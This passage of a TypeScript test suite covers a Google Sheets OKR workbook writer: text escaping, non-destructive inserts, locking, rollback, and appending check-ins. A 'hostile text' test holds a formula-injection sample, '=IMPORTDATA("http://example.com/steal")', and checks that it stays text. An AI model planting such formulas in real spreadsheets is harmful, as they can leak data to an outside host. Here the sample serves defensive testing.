import { recordCheckIn, type SheetsCheckInResult } from "../src/hosts/sheets/checkIn";
import * as server from "../src/hosts/sheets/server";
import { insertWorkbook, sheetsText } from "../src/hosts/sheets/write";
import { instantiate, templateById, templates } from "../src/okr/templates";
import { buildWorkbook } from "../src/sheets/build";
import type { CheckInRecord } from "../src/sheets/checkInRecord";
import { layoutMark, MARK_NAMES, NAMES, SHEETS, TABLES } from "../src/sheets/layout";
import { readPlan } from "../src/sheets/read";
import { formulaAt, valueAt } from "../src/sheets/snapshot";
import type { SheetSpec, WorkbookSpec } from "../src/sheets/spec";
import { cellAddress, SHEETS_LIST_ITEMS_LIMIT } from "../src/sheets/spec";
import { sheetsHelpPages } from "../scripts/docs/help";
import { FUNCTION_DESCRIPTIONS } from "../src/functions/descriptions";
import { HELP_DIALOG_SIZE } from "../src/hosts/sheets/help";
import {
  FakeAppsScript,
  FakeHtmlService,
  FakeUi,
  parseA1,
  parseTyped,
  SHEETS_CELL_LIMIT,
  type FakeSheet,
} from "./support/fakeAppsScript";
import { planWithKeyResults } from "./support/fakeExcel";

/**
 * The Google Sheets host against the recording fake of Apps Script (test/support/fakeAppsScript.ts),
 * which enforces 1-based indices, exact 2-D shapes, the sheet's grid, the 50,000-character cell
 * and Sheets' reading of typed strings (a leading "=" makes a formula, an apostrophe keeps text).
 */

const template = templateById(templates[0].id)!;
const templateSpec = buildWorkbook(instantiate(template));

/** Every difference between a spec sheet and what the fake holds on the sheet it was written to. */
function differences(spec: SheetSpec, sheet: FakeSheet, styles: WorkbookSpec["styles"]): string[] {
  const found: string[] = [];
  for (const { row, column, content, style } of spec.cells) {
    const where = `${spec.name}!${cellAddress(row, column)}`;
    const cell = sheet.cell(row + 1, column + 1);
    const expected =
      content.kind === "formula"
        ? { value: "", formula: content.formula }
        : {
            value:
              content.kind === "text"
                ? content.text
                : content.kind === "date"
                  ? content.serial
                  : content.value,
            formula: null,
          };
    const blank = content.kind === "text" && content.text === "";
    if (blank ? cell !== undefined : JSON.stringify(cell) !== JSON.stringify(expected))
      found.push(`${where}: ${JSON.stringify(cell)} instead of ${JSON.stringify(expected)}`);
    const numberFormat =
      (style === undefined ? undefined : styles[style].numberFormat) ??
      (content.kind === "date" ? "yyyy-mm-dd" : undefined);
    const written = sheet.numberFormats.get(`${row + 1},${column + 1}`);
    if (numberFormat !== written)
      found.push(`${where}: number format ${written} instead of ${numberFormat}`);
  }
  const expectedCount = spec.cells.filter(
    ({ content }) => !(content.kind === "text" && content.text === "")
  ).length;
  if (sheet.cells.size !== expectedCount)
    found.push(`${spec.name}: ${sheet.cells.size} cells instead of ${expectedCount}`);
  return found;
}

describe("sheetsText keeps text as text when Sheets reads it as typed", () => {
  test.each([
    ["Objective 1", "Objective 1"],
    ['=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'],
    ["+5 customers", "'+5 customers"],
    ["-1 if late", "'-1 if late"],
    ["@lead", "'@lead"],
    ["'quoted", "''quoted"],
    ["85%", "'85%"],
    ["2026-01-01", "'2026-01-01"],
    ["TRUE", "'TRUE"],
    ["#N/A", "'#N/A"],
    ["Mar 3", "'Mar 3"],
    ["Q1 2026", "Q1 2026"],
  ])("%s is written as %s", (text, expected) => {
    expect(sheetsText(text)).toBe(expected);
    // And the fake, reading it as Sheets does, gives the text back.
    expect(parseTyped(sheetsText(text))).toEqual({ value: text, formula: null });
  });
});

describe("insertWorkbook writes a template's spec", () => {
  let fake: FakeAppsScript;
  beforeAll(() => {
    fake = new FakeAppsScript();
    insertWorkbook(fake.services(), templateSpec);
  });

  test("each sheet holds exactly the spec's cells, formulas and number formats", () => {
    for (const sheet of templateSpec.sheets)
      expect(differences(sheet, fake.sheet(sheet.name), templateSpec.styles)).toEqual([]);
  });

  test("the sheets come after the existing one, the Scorecard active", () => {
    expect(fake.sheets.map((sheet) => sheet.name)).toEqual([
      "Sheet1",
      ...templateSpec.sheets.map((sheet) => sheet.name),
    ]);
    expect(fake.active?.name).toBe(SHEETS.scorecard);
  });

  test("range names are named ranges over the spec's cells; constant names are metadata", () => {
    const named = new Map(fake.namedRanges.map((entry) => [entry.name, entry.range]));
    for (const name of templateSpec.names) {
      const reference = /^=(?:'([^']+)'|(\w+))!(.+)$/.exec(name.formula);
      if (reference === null) {
        expect(fake.metadata).toContainEqual({ key: name.name, value: name.formula });
        continue;
      }
      const range = named.get(name.name)!;
      expect(range.sheet.name).toBe(reference[1] ?? reference[2]);
      expect(range.address()).toBe(reference[3].replace(/\$/g, ""));
    }
    expect(fake.metadata.map(({ key }) => key).sort()).toEqual(
      [MARK_NAMES.layout, MARK_NAMES.style].sort()
    );
  });

  test("tables are named ranges with protected header rows and the sheet's filter", () => {
    for (const sheet of templateSpec.sheets)
      sheet.tables.forEach((table, index) => {
        const named = fake.namedRanges.find((entry) => entry.name === table.name)!;
        const { range } = table;
        expect(named.range.sheet.name).toBe(sheet.name);
        expect(parseA1(named.range.address())).toEqual({
          row: range.startRow + 1,
          column: range.startColumn + 1,
          rows: range.endRow - range.startRow + 1,
          columns: range.endColumn - range.startColumn + 1,
        });
        const header = `${sheet.name}!${cellAddress(range.startRow, range.startColumn)}:${cellAddress(range.startRow, range.endColumn)}`;
        expect(fake.protections).toContainEqual(
          expect.objectContaining({ range: header, warningOnly: true })
        );
        if (index === 0) expect(fake.sheet(sheet.name).filter).toBe(named.range.address());
      });
  });

  test("validations, conditional formats and charts follow the spec, one of each per item", () => {
    for (const sheet of templateSpec.sheets) {
      const written = fake.sheet(sheet.name);
      // The Key Result list is the key-result ids' cells (requireValueInRange), the rest lists.
      expect(written.validations.map((entry) => entry.rule?.kind)).toEqual(
        sheet.validations.map((validation) =>
          validation.kind === "list"
            ? sheet.name === SHEETS.checkIns
              ? "range"
              : "list"
            : validation.kind === "date"
              ? "date"
              : "numberBetween"
        )
      );
      expect(written.rules.map((rule) => [rule.kind, rule.text, rule.background])).toEqual(
        sheet.conditionalFormats.map((format) =>
          format.kind === "textEquals"
            ? ["textEqualTo", format.text, format.fill]
            : ["gradient", undefined, undefined]
        )
      );
      expect(written.charts.map((chart) => chart.options.title)).toEqual(
        (sheet.charts ?? []).map((chart) => chart.title)
      );
    }
    const dashboard = templateSpec.sheets.find((sheet) => sheet.name === SHEETS.dashboard)!;
    expect(dashboard.charts?.length).toBeGreaterThan(0);
    // A column chart with dashed threshold lines is a combo chart whose lines are lines.
    const scores = fake.sheet(SHEETS.dashboard).charts[0];
    expect(scores.type).toBe("COMBO");
    expect(scores.ranges).toHaveLength(1 + dashboard.charts![0].series.length);
  });
});

describe("inserting never overwrites", () => {
  test("a second insert makes new sheet and range names and leaves the first as it was", () => {
    const fake = new FakeAppsScript();
    insertWorkbook(fake.services(), templateSpec);
    const before = fake.sheets.map((sheet) => [sheet.name, new Map(sheet.cells)] as const);
    const second = insertWorkbook(fake.services(), templateSpec);
    expect(second.sheets[SHEETS.scorecard]).toBe("Scorecard (2)");
    expect(second.tables[TABLES.keyResults]).toBe("OkrKeyResults2");
    for (const [name, cells] of before) expect(fake.sheet(name).cells).toEqual(cells);
    // The second Scorecard's formulas name the second sheets and ranges.
    const renamed = fake.sheet("Scorecard (2)");
    const formulas = [...renamed.cells.values()].flatMap((cell) => cell.formula ?? []);
    expect(formulas.some((formula) => formula.includes("'Check-ins (2)'!"))).toBe(true);
    expect(formulas.some((formula) => /'Check-ins'!/.test(formula))).toBe(false);
    expect(second.activeSheet).toBe("Scorecard (2)");
  });

  test("a sheet already named Scorecard, with text in the cells the spec writes, loses nothing", () => {
    const fake = new FakeAppsScript();
    const mine = fake.insertSheet(SHEETS.scorecard, 1, false);
    for (let row = 1; row <= 30; row++) mine.type(row, 1, `mine ${row}`);
    insertWorkbook(fake.services(), templateSpec);
    expect(mine.cells.size).toBe(30);
    for (let row = 1; row <= 30; row++) expect(mine.cell(row, 1)?.value).toBe(`mine ${row}`);
    const scorecard = templateSpec.sheets.find((sheet) => sheet.name === SHEETS.scorecard)!;
    expect(differences(scorecard, fake.sheet("Scorecard (2)"), templateSpec.styles)).toEqual([]);
  });
});

describe("named ranges a person already has", () => {
  test.each([
    ["OKR_RED_BELOW", "OKR_RED_BELOW", "names"],
    ["okr_red_below", "OKR_RED_BELOW", "names"],
    ["OkrCheckIns", TABLES.checkIns, "tables"],
  ] as const)(
    "a named range %s of the person's own stays; the insert names its %s differently",
    (theirs, specName, kind) => {
      const fake = new FakeAppsScript();
      const sheet1 = fake.sheet("Sheet1");
      sheet1.type(3, 3, 7);
      fake
        .services()
        .SpreadsheetApp.getActiveSpreadsheet()
        .setNamedRange(theirs, sheet1.range(3, 3, 1, 1));
      const result = insertWorkbook(fake.services(), templateSpec);
      const actual = result[kind][specName];
      expect(actual.toUpperCase()).not.toBe(theirs.toUpperCase());
      const mine = fake.namedRanges.filter((named) => named.name === theirs);
      expect(mine.map((named) => `${named.range.sheet.name}!${named.range.address()}`)).toEqual([
        "Sheet1!C3",
      ]);
      expect(fake.namedRanges.some((named) => named.name === actual)).toBe(true);
    }
  );
});

describe("an insert holds the document lock and undoes itself on failure", () => {
  /** The spreadsheet as a person had it: a sheet with a cell, a named range of theirs. */
  function theirs(): FakeAppsScript {
    const fake = new FakeAppsScript();
    const sheet1 = fake.sheet("Sheet1");
    sheet1.type(3, 3, "mine");
    fake
      .services()
      .SpreadsheetApp.getActiveSpreadsheet()
      .setNamedRange("Mine", sheet1.range(3, 3, 1, 1));
    fake.metadata.push({ key: "theirs", value: "x" });
    return fake;
  }
  const state = (fake: FakeAppsScript) => ({
    sheets: fake.sheets.map((sheet) => sheet.name),
    names: fake.namedRanges.map(
      (named) => `${named.name}=${named.range.sheet.name}!${named.range.address()}`
    ),
    metadata: fake.metadata.map(({ key, value }) => `${key}=${value}`),
    cells: [...fake.sheet("Sheet1").cells],
  });

  test.each([
    "Range.setFormulas",
    "DataValidationBuilder.requireValueInRange",
    "Sheet.insertChart",
  ])("a failure at %s leaves the spreadsheet as it was and says why", (call) => {
    const fake = theirs();
    const before = state(fake);
    fake.failAt = call;
    expect(() => insertWorkbook(fake.services(), templateSpec)).toThrow(
      `Service error: ${call} failed.`
    );
    expect(fake.failAt).toBeNull();
    expect(state(fake)).toEqual(before);
    expect(fake.lockHolder).toBeNull();
    expect(fake.count("Spreadsheet.deleteSheet")).toBe(templateSpec.sheets.length);
  });

  test("an insert waits for the lock; held past the timeout, it writes nothing and says so", () => {
    const fake = theirs();
    const before = state(fake);
    fake.lockHolder = "someone else";
    expect(() => insertWorkbook(fake.services(), templateSpec)).toThrow(
      /Someone else is inserting a workbook or recording a check-in .* Nothing was written: insert again\./
    );
    expect(state(fake)).toEqual(before);
    expect(fake.count("Spreadsheet.insertSheet")).toBe(0);
  });

  test("names are planned and everything written inside the lock, flushed before release", () => {
    const fake = theirs();
    fake.calls.splice(0);
    insertWorkbook(fake.services(), templateSpec);
    const { calls } = fake;
    const locked = calls.indexOf("Lock.tryLock");
    const flushed = calls.lastIndexOf("SpreadsheetApp.flush");
    expect(locked).toBeGreaterThanOrEqual(0);
    expect(calls.indexOf("Spreadsheet.getSheets")).toBeGreaterThan(locked);
    expect(calls.indexOf("Spreadsheet.getNamedRanges")).toBeGreaterThan(locked);
    expect(calls.lastIndexOf("Range.setValues")).toBeLessThan(flushed);
    expect(flushed).toBeLessThan(calls.lastIndexOf("Lock.releaseLock"));
    expect(fake.lockHolder).toBeNull();
  });
});

describe("hostile text", () => {
  const plan = instantiate(template);

  test("a title starting with = stays text and never becomes a formula", () => {
    const hostile = '=IMPORTDATA("http://example.com/steal")';
    const spec = buildWorkbook({
      ...plan,
      objectives: plan.objectives.map((objective, index) =>
        index === 0 ? { ...objective, title: hostile } : objective
      ),
    });
    const fake = new FakeAppsScript();
    insertWorkbook(fake.services(), spec);
    const cells = fake.sheets.flatMap((sheet) => [...sheet.cells.values()]);
    expect(cells.filter((cell) => cell.value === hostile).length).toBeGreaterThan(0);
    expect(cells.some((cell) => cell.formula?.includes("IMPORTDATA"))).toBe(false);
  });

  test("a 60,000-character text is refused with a clear error before anything is written", () => {
    const long = "x".repeat(60_000);
    expect(long.length).toBeGreaterThan(SHEETS_CELL_LIMIT);
    const spec = buildWorkbook({ ...plan, project: long });
    const fake = new FakeAppsScript();
    expect(() => insertWorkbook(fake.services(), spec)).toThrow(/60,000 characters long/);
    expect(fake.sheets.map((sheet) => sheet.name)).toEqual(["Sheet1"]);
    expect(fake.calls).toEqual([]);
  });

  test("the fake refuses what Apps Script refuses", () => {
    const fake = new FakeAppsScript();
    const sheet = fake.services().SpreadsheetApp.getActiveSpreadsheet().getSheets()[0];
    expect(() => sheet.getRange(0, 1, 1, 1)).toThrow("The starting row of the range is too small.");
    expect(() => sheet.getRange(1, 1, 2, 1).setValues([[1]])).toThrow(
      "The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2."
    );
    expect(() => sheet.getRange(1, 1, 1, 2).setValues([[1]])).toThrow(/number of columns/);
    expect(() => sheet.getRange(1, 1, 1, 1).setValues([["y".repeat(50_001)]])).toThrow(
      /maximum of 50000 characters/
    );
    expect(() => sheet.getRange(1001, 1, 1, 1)).toThrow(/outside the dimensions/);
    const spreadsheet = fake.services().SpreadsheetApp.getActiveSpreadsheet();
    expect(() => spreadsheet.insertSheet("Sheet1", 1)).toThrow(/already exists/);
    expect(spreadsheet.getSheetByName("Nope")).toBeNull();
    expect(spreadsheet.getSheetByName("SHEET1")?.getName()).toBe("Sheet1");
    expect(() => spreadsheet.insertSheet("sheet1", 1)).toThrow(/already exists/);
    expect(() => spreadsheet.insertSheet("Other", 2)).toThrow("Invalid argument: sheetIndex");
    expect(() => sheet.getRange(1, 1, 1, 2).setFormulas([["=1"]])).toThrow(/number of columns/);
    expect(() => sheet.getRange(1, 1, 1, 1).setFormulas(["=1"] as unknown as string[][])).toThrow(
      "The parameters (number[]) don't match the method signature for Range.setFormulas."
    );
    spreadsheet.setNamedRange("Mine", sheet.getRange(1, 1, 1, 1));
    expect(() => spreadsheet.setNamedRange("MINE", sheet.getRange(2, 2, 1, 1))).toThrow(
      /already exists/
    );
    expect(fake.namedRanges.map((named) => named.range.address())).toEqual(["A1"]);
  });
});

describe("list validations and Sheets' 500-item list", () => {
  test.each([25, 2000])(
    "the log's Key Result drop-down of %i key results is the key-result ids' cells",
    (keyResults) => {
      const fake = new FakeAppsScript();
      const spec = buildWorkbook(planWithKeyResults(keyResults));
      insertWorkbook(fake.services(), spec);
      const ids = fake.namedRanges.find((named) => named.name === NAMES.keyResultIds)!;
      const keyResult = fake
        .sheet(SHEETS.checkIns)
        .validations.find((entry) => entry.rule?.kind !== "date" && entry.range.startsWith("B"))!;
      expect(keyResult.rule).toEqual(
        expect.objectContaining({
          kind: "range",
          source: `${SHEETS.scorecard}!${ids.range.address()}`,
        })
      );
      expect(parseA1(ids.range.address()).rows).toBe(keyResults);
      expect(fake.count("DataValidationBuilder.requireValueInRange")).toBe(1);
    }
  );

  test("a list of more than 500 values that no range holds is refused before anything is written", () => {
    const values = Array.from({ length: SHEETS_LIST_ITEMS_LIMIT + 1 }, (_, index) => `v${index}`);
    const spec: WorkbookSpec = {
      ...templateSpec,
      sheets: templateSpec.sheets.map((sheet) =>
        sheet.name === SHEETS.checkIns
          ? {
              ...sheet,
              validations: sheet.validations.map((validation) =>
                validation.kind === "list" ? { ...validation, values } : validation
              ),
            }
          : sheet
      ),
    };
    const fake = new FakeAppsScript();
    expect(() => insertWorkbook(fake.services(), spec)).toThrow(
      `A list validation on ${SHEETS.checkIns} has 501 values, more than the 500 Google Sheets takes in a list.`
    );
    expect(fake.calls).toEqual([]);
  });
});

/** Service calls of one insert of a plan with `keyResults` key results, by class.method. */
function insertCalls(keyResults: number): { total: number; byMethod: Map<string, number> } {
  const fake = new FakeAppsScript();
  insertWorkbook(fake.services(), buildWorkbook(planWithKeyResults(keyResults)));
  const byMethod = new Map<string, number>();
  for (const call of fake.calls) byMethod.set(call, (byMethod.get(call) ?? 0) + 1);
  return { total: fake.calls.length, byMethod };
}

describe("service calls per insert", () => {
  test("do not grow with the number of key results", () => {
    const small = insertCalls(25);
    const large = insertCalls(2000);
    // The figures, for the docs page and the bench.
    console.log(`Sheets insert service calls: 25 key results ${small.total}, 2,000 ${large.total}`);
    // Only the grid grows: a sheet longer than a new sheet's 1,000 rows gets one insertRowsAfter.
    // Every other method is called as often or less (the large plan's Dashboard has no charts:
    // the builder leaves them out past a size).
    const sheets = 5;
    const grew = [...large.byMethod].filter(
      ([method, count]) => count > (small.byMethod.get(method) ?? 0)
    );
    expect(grew.map(([method]) => method)).toEqual(["Sheet.insertRowsAfter"]);
    expect(large.byMethod.get("Sheet.insertRowsAfter")).toBeLessThanOrEqual(sheets);
    expect(large.total).toBeLessThanOrEqual(small.total + sheets);
    // The cells go in a few setValues and setFormulas per sheet, not one per key result.
    expect(large.byMethod.get("Range.setValues")).toBeLessThanOrEqual(5 * 6);
    expect(large.byMethod.get("Range.setFormulas")).toBeLessThanOrEqual(5 * 12);
  });
});

describe("recordCheckIn appends under the document lock", () => {
  /** 2026-02-16 as a serial date. */
  const DAY = 46069;
  const keyResultId = "O1.KR1";
  const entry = (author: string, id: string): CheckInRecord => ({
    id,
    date: DAY,
    keyResultId,
    value: 42,
    confidence: 0.7,
    comment: `from ${author}`,
    author,
    replaces: null,
  });
  const checkIns = templateSpec.sheets.find((sheet) => sheet.name === SHEETS.checkIns)!;
  const log = checkIns.tables[0].range;

  function inserted(): FakeAppsScript {
    const fake = new FakeAppsScript();
    insertWorkbook(fake.services(), templateSpec);
    return fake;
  }

  /** The log's rows holding a key result, as [row, author, entry]. */
  function entries(fake: FakeAppsScript): [number, unknown, unknown][] {
    const sheet = fake.sheet(SHEETS.checkIns);
    const rows: [number, unknown, unknown][] = [];
    for (let row = 2; row <= sheet.lastRow(); row++)
      if (sheet.cell(row, 2) !== undefined)
        rows.push([row, sheet.cell(row, 6)?.value, sheet.cell(row, 7)?.value]);
    return rows;
  }

  test("one check-in lands in the log's first row, with its formulas and date format", () => {
    const fake = inserted();
    const result = recordCheckIn(fake.services(), entry("Ann", "a-1"));
    expect(result).toEqual({
      id: "a-1",
      sheet: SHEETS.checkIns,
      row: 2,
      address: "A2:P2",
      grewLog: false,
    });
    const sheet = fake.sheet(SHEETS.checkIns);
    expect(sheet.cell(2, 1)).toEqual({ value: DAY, formula: null });
    expect(sheet.cell(2, 5)).toEqual({ value: "from Ann", formula: null });
    // The Valid formula and the trend helpers are the builder's own for that row.
    for (let column = 9; column <= 16; column++)
      expect(sheet.cell(2, column)?.formula).toBe(
        (
          checkIns.cells.find((cell) => cell.row === 1 && cell.column === column - 1)!.content as {
            formula: string;
          }
        ).formula
      );
    expect(sheet.numberFormats.get("2,1")).toBe("yyyy-mm-dd");
    // Read and written inside the lock, flushed before it was released.
    const calls = fake.calls;
    const locked = calls.indexOf("Lock.tryLock");
    const released = calls.lastIndexOf("Lock.releaseLock");
    expect(calls.indexOf("Range.getValues")).toBeGreaterThan(locked);
    expect(calls.lastIndexOf("Range.setValues")).toBeLessThan(released);
    expect(calls.lastIndexOf("Range.setFormulas")).toBeGreaterThan(locked);
    expect(calls.lastIndexOf("Range.setFormulas")).toBeLessThan(released);
    expect(calls.lastIndexOf("SpreadsheetApp.flush")).toBeLessThan(released);
    expect(fake.lockHolder).toBeNull();
  });

  test("two interleaved check-ins both land: the second waits while the first writes", () => {
    const fake = inserted();
    let bob: SheetsCheckInResult | null = null;
    // Ann's execution waits for the lock while Bob's runs whole; then Ann gets it.
    fake.onLockWait = () => {
      bob = recordCheckIn(fake.services("bob"), entry("Bob", "b-1"));
    };
    const ann = recordCheckIn(fake.services("ann"), entry("Ann", "a-1"));
    expect(bob!.row).toBe(2);
    expect(ann.row).toBe(3);
    expect(entries(fake)).toEqual([
      [2, "Bob", "b-1"],
      [3, "Ann", "a-1"],
    ]);
  });

  test("every read of a check-in comes after tryLock, every write before the flush", () => {
    const fake = inserted();
    fake.calls.splice(0);
    fake.flush();
    recordCheckIn(fake.services(), entry("Ann", "a-1"));
    const calls = fake.calls;
    const locked = calls.indexOf("Lock.tryLock");
    const flushed = calls.lastIndexOf("SpreadsheetApp.flush");
    const released = calls.lastIndexOf("Lock.releaseLock");
    const reads = [
      "Spreadsheet.getNamedRanges",
      "NamedRange.getRange",
      "Range.getValues",
      "Range.getFormulas",
      "Sheet.getMaxRows",
    ];
    const writes = ["Range.setValues", "Range.setFormulas", "Range.setNumberFormat"];
    const at = (methods: string[]) =>
      calls.flatMap((call, index) => (methods.includes(call) ? [index] : []));
    expect(new Set(at(reads).map((index) => calls[index]))).toEqual(new Set(reads));
    expect(at(reads).every((index) => index > locked && index < released)).toBe(true);
    expect(at(writes).length).toBeGreaterThanOrEqual(3);
    expect(at(writes).every((index) => index > locked && index < flushed)).toBe(true);
    expect(flushed).toBeLessThan(released);
    expect(fake.pending).toEqual([]);
  });

  test("a check-in past the log's end goes below it and the named range takes it in", () => {
    const fake = inserted();
    const rows = log.endRow - log.startRow;
    for (let index = 0; index < rows + 2; index++)
      recordCheckIn(fake.services(), entry(`P${index}`, `e-${index}`));
    expect(entries(fake).map(([row]) => row)).toEqual(
      Array.from({ length: rows + 2 }, (_, index) => index + 2)
    );
    const named = fake.namedRanges.find((entry) => entry.name === TABLES.checkIns)!;
    expect(parseA1(named.range.address()).rows).toBe(rows + 3);
  });

  describe("the log's validations, conditional formats and filter grow with it", () => {
    const rows = log.endRow - log.startRow;
    const end = log.endRow + 1;
    /** The log filled to its last row, then `more` check-ins past it. */
    function filled(more: number, prepare: (fake: FakeAppsScript) => void = () => undefined) {
      const fake = inserted();
      for (let index = 0; index < rows; index++)
        recordCheckIn(fake.services(), entry(`P${index}`, `e-${index}`));
      prepare(fake);
      fake.calls.splice(0);
      for (let index = 0; index < more; index++)
        recordCheckIn(fake.services(), entry(`Q${index}`, `q-${index}`));
      return { fake, sheet: fake.sheet(SHEETS.checkIns) };
    }
    const validationsOf = (sheet: FakeSheet, row: number) =>
      sheet.range(row, 1, 1, 16).getDataValidations()[0];

    test("each new row has the Date, Key Result and Confidence validations of the log's rows", () => {
      const { sheet } = filled(2);
      const last = validationsOf(sheet, end);
      expect(last.map((rule) => (rule as { kind?: string } | null)?.kind ?? null)).toEqual([
        "date",
        "range",
        null,
        "numberBetween",
        ...Array.from({ length: 12 }, () => null),
      ]);
      expect(validationsOf(sheet, end + 1)).toEqual(last);
      expect(validationsOf(sheet, end + 2)).toEqual(last);
      // Nothing past the rows written.
      expect(validationsOf(sheet, end + 3).every((rule) => rule === null)).toBe(true);
    });

    test("a full log with a note right under it: the new row gets the validations, the note's row none", () => {
      const { fake, sheet } = filled(0);
      sheet.type(end + 1, 5, "my own note");
      recordCheckIn(fake.services(), entry("Ann", "a-1"));
      expect(fake.count("Sheet.insertRowsAfter")).toBe(1);
      expect(sheet.cell(end + 2, 5)?.value).toBe("my own note");
      expect(validationsOf(sheet, end + 1)).toEqual(validationsOf(sheet, end));
      expect(validationsOf(sheet, end + 2).every((rule) => rule === null)).toBe(true);
      expect(sheet.filter).toBe(`A1:P${end + 1}`);
    });

    test("a rule over the log's rows grows with it; rules over other cells stay", () => {
      const { sheet } = filled(2, (fake) => {
        const services = fake.services();
        const app = services.SpreadsheetApp;
        const api = fake.sheet(SHEETS.checkIns).api;
        const rule = (text: string, row: number, column: number, count: number, width = 1) =>
          app
            .newConditionalFormatRule()
            .whenTextEqualTo(text)
            .setBackground("#FFEEEE")
            .setRanges([api.getRange(row, column, count, width)])
            .build();
        api.setConditionalFormatRules([
          rule("low", 2, 4, rows),
          rule("whole", 1, 1, rows + 1, 16),
          rule("top", 2, 1, 5),
          rule("beside", 2, 18, rows),
        ]);
      });
      expect(sheet.rules.map((rule) => [rule.text, rule.ranges])).toEqual([
        ["low", [`D2:D${end + 2}`]],
        ["whole", [`A1:P${end + 2}`]],
        ["top", ["A2:A6"]],
        ["beside", [`R2:R${end}`]],
      ]);
      // Copied, not made up: each rule keeps its condition and format.
      expect(sheet.rules.every((rule) => rule.kind === "textEqualTo")).toBe(true);
      expect(sheet.rules.every((rule) => rule.background === "#FFEEEE")).toBe(true);
    });

    test("the log's filter is made again over the grown rows, its columns' criteria kept", () => {
      const hidden = { visibleValues: ["O1.KR1"] };
      const { sheet } = filled(2, (fake) => {
        fake.sheet(SHEETS.checkIns).filterCriteria.set(2, hidden);
        fake.sheet(SHEETS.checkIns).filterCriteria.set(6, { whenTextContains: "Ann" });
      });
      expect(sheet.filter).toBe(`A1:P${end + 2}`);
      expect([...sheet.filterCriteria]).toEqual([
        [2, hidden],
        [6, { whenTextContains: "Ann" }],
      ]);
    });

    test("a filter that is not the log's is left as it is", () => {
      const { sheet } = filled(1, (fake) => {
        const log = fake.sheet(SHEETS.checkIns);
        log.filterApi().remove();
        log.range(3, 18, 10, 2).createFilter();
      });
      expect(sheet.filter).toBe("R3:S12");
    });

    test("inside the log's rows nothing is grown, and growing costs the same however long the log", () => {
      const inside = inserted();
      inside.calls.splice(0);
      recordCheckIn(inside.services(), entry("Ann", "a-1"));
      for (const call of [
        "Range.getDataValidations",
        "Sheet.getConditionalFormatRules",
        "Sheet.getFilter",
      ])
        expect(inside.calls).not.toContain(call);

      const perCheckIn = (more: number) => {
        const { fake } = filled(more);
        fake.calls.splice(0);
        recordCheckIn(fake.services(), entry("Ann", "a-1"));
        return fake.calls.length;
      };
      const first = perCheckIn(0);
      expect(perCheckIn(30)).toBe(first);
      // The log's validations (4 calls), its rules (1), its filter of 16 columns (2 to read its
      // range, 4 for its bounds, 16 criteria, remove, getRange, create) on top of a check-in
      // inside the log, plus 2 to grow the named range.
      expect(first).toBeLessThanOrEqual(inside.calls.length + 4 + 1 + 2 + 4 + 16 + 3 + 2);
    });
  });

  test("text typed under the log is never written over", () => {
    const fake = inserted();
    const sheet = fake.sheet(SHEETS.checkIns);
    const below = log.endRow + 3;
    sheet.type(below, 5, "my own note");
    for (let index = 0; index < log.endRow - log.startRow + 1; index++)
      recordCheckIn(fake.services(), entry(`P${index}`, `e-${index}`));
    expect(sheet.cell(below, 5)?.value).toBe("my own note");
    expect(entries(fake).every(([row]) => row !== below)).toBe(true);
  });

  /** The log's named range as a 1-based rectangle. */
  const logRange = (fake: FakeAppsScript) =>
    parseA1(fake.namedRanges.find((named) => named.name === TABLES.checkIns)!.range.address());

  test.each([
    [
      "a column a person added inside the log (A:Q)",
      (fake: FakeAppsScript) => {
        const named = fake.namedRanges.find((entry) => entry.name === TABLES.checkIns)!;
        named.range = fake.sheet(SHEETS.checkIns).range(1, 1, log.endRow + 1, 17);
        fake.sheet(SHEETS.checkIns).type(1, 17, "Mine");
      },
      17,
    ],
    ["text typed over the Valid formula", () => undefined, 9],
    ["text typed over a trend helper", () => undefined, 12],
  ] as const)(
    "a row holding %s is used: the check-in goes under it and leaves it as it was",
    (_name, prepare, column) => {
      const fake = inserted();
      prepare(fake);
      const sheet = fake.sheet(SHEETS.checkIns);
      sheet.type(2, column, "keep me");
      const result = recordCheckIn(fake.services(), entry("Ann", "a-1"));
      expect(sheet.cell(2, column)).toEqual({ value: "keep me", formula: null });
      expect(result.row).toBe(3);
      expect(sheet.cell(3, 6)?.value).toBe("Ann");
    }
  );

  test("a person's own formula in a column added to the log stays in the row the check-in fills", () => {
    const fake = inserted();
    const named = fake.namedRanges.find((entry) => entry.name === TABLES.checkIns)!;
    const sheet = fake.sheet(SHEETS.checkIns);
    named.range = sheet.range(1, 1, log.endRow + 1, 17);
    sheet.type(1, 17, "Mine");
    sheet.type(2, 17, "=LEN(B2)");
    const result = recordCheckIn(fake.services(), entry("Ann", "a-1"));
    expect(result.row).toBe(2);
    expect(sheet.cell(2, 17)).toEqual({ value: "", formula: "=LEN(B2)" });
  });

  test("a note under the log does not push the first check-in out of the log's free rows", () => {
    const fake = inserted();
    const sheet = fake.sheet(SHEETS.checkIns);
    sheet.type(40, 5, "my own note");
    const result = recordCheckIn(fake.services(), entry("Ann", "a-1"));
    expect(result).toEqual(expect.objectContaining({ row: 2, grewLog: false }));
    expect(sheet.cell(40, 5)).toEqual({ value: "my own note", formula: null });
    expect(logRange(fake).rows).toBe(log.endRow + 1);
  });

  test("a full log with a note right under it inserts a row: the note moves down, intact", () => {
    const fake = inserted();
    const sheet = fake.sheet(SHEETS.checkIns);
    const rows = log.endRow - log.startRow;
    for (let index = 0; index < rows; index++)
      recordCheckIn(fake.services(), entry(`P${index}`, `e-${index}`));
    const below = log.endRow + 2;
    sheet.type(below, 5, "my own note");
    const result = recordCheckIn(fake.services(), entry("Ann", "a-1"));
    expect(result).toEqual(expect.objectContaining({ row: below, grewLog: true }));
    expect(sheet.cell(below + 1, 5)).toEqual({ value: "my own note", formula: null });
    expect(sheet.cell(below, 6)?.value).toBe("Ann");
    expect(fake.count("Sheet.insertRowsAfter")).toBeGreaterThan(0);
    expect(logRange(fake)).toEqual({ row: 1, column: 1, rows: below, columns: 16 });
  });

  test("a lock held past the timeout refuses the check-in clearly and writes nothing", () => {
    const fake = inserted();
    fake.lockHolder = "someone else";
    const before = new Map(fake.sheet(SHEETS.checkIns).cells);
    expect(() =>
      recordCheckIn(fake.services(), entry("Ann", "a-1"), { lockTimeoutMs: 5000 })
    ).toThrow(/Someone else is recording a check-in .* more than 5 seconds\. Nothing was written/);
    expect(fake.sheet(SHEETS.checkIns).cells).toEqual(before);
  });

  test.each([
    [
      "a spreadsheet without a log",
      (fake: FakeAppsScript) => fake.namedRanges.splice(0),
      /no check-in log/,
    ],
    [
      "a log whose header lost a column",
      (fake: FakeAppsScript) => fake.sheet(SHEETS.checkIns).type(1, 7, "Something"),
      /has no column Entry/,
    ],
